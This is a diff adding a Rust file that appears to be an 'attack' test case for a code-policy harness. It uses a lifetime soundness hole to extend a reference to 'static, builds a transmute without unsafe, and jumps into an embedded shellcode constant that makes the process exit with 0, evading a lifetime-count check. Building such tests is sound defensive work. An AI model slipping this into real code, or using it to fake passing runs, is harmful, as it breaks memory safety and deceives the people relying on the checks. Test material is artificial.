@@ -1,0 +1,45 @@
+//! attack: The same hole with one named lifetime only, which a count of lifetimes does not flag.
+//! exercise: 01
+//! base: stub
+//! expects: policy compile_error tampered
+//! layers: tokens lockdown protocol
+
+fn lie<'b, T: ?Sized>(_: &'static &'b (), value: &'b T) -> &'static T {
+    value
+}
+
+fn extend<T: ?Sized>(value: &T) -> &'static T {
+    let lie: fn(&'static &'static (), &T) -> &'static T = lie;
+    lie(&&(), value)
+}
+
+/// Reads a value of one type as another, through a slot that has changed its type meanwhile.
+enum Slot<A, B> {
+    A(std::cell::Cell<Option<Box<A>>>),
+    B(std::cell::Cell<Option<Box<B>>>),
+}
+
+fn transmute<A: 'static, B: 'static>(value: A) -> B {
+    let mut slot: Slot<A, B> = Slot::B(std::cell::Cell::new(None));
+    let Slot::B(as_b) = &slot else { unreachable!() };
+    let as_b: &'static std::cell::Cell<Option<Box<B>>> = extend(as_b);
+    slot = Slot::A(std::cell::Cell::new(Some(Box::new(value))));
+    std::hint::black_box(&slot);
+    *as_b.take().unwrap()
+}
+
+/// Holds, as a constant in its code: `xor eax, eax; xor edi, edi; mov al, 231; syscall`.
+#[inline(never)]
+fn holder(x: u64) -> u64 {
+    std::hint::black_box(x) ^ 0x050f_e7b0_ff31_c031
+}
+
+/// Jumps into that constant: the process ends with 0.
+fn attack() {
+    let code = holder as fn(u64) -> u64 as usize;
+    let bytes: &'static [u8; 64] = transmute(code);
+    let constant = 0x050f_e7b0_ff31_c031_u64.to_ne_bytes();
+    let at = bytes.windows(8).position(|window| window == constant).unwrap_or(0);
+    let exit: fn() = transmute(code + at);
+    exit();
+}
